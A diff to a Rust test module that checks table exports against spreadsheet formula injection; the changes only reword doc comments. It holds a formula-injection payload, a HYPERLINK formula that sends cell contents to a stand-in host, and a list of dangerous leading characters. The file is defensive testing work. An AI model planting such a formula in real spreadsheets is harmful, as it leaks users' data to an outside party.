@@ -1,4 +1,5 @@
-//! Tables that run nothing: every answer that is a table, in both languages, after names that a spreadsheet program would run.
+//! Tables that run nothing: every answer that is a table, in both languages, with names that a spreadsheet program would
+//! run.
 
 use std::collections::BTreeSet;
 use std::io::Read as _;
@@ -11,10 +12,10 @@ use crate::rules::adopt;
 
 cases![no_answer_that_is_a_table_runs_a_name, a_guarded_name_comes_back_through_the_import];
 
-/// A name that sends what is in the table to a stranger.
+/// A name that would send the content of the table to a stranger.
 const NAME: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
 
-/// The signs with which no cell may begin.
+/// The characters with which no cell may begin.
 const SIGNS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
 
 /// The operations that answer with a table, and a request for each with a name in it.
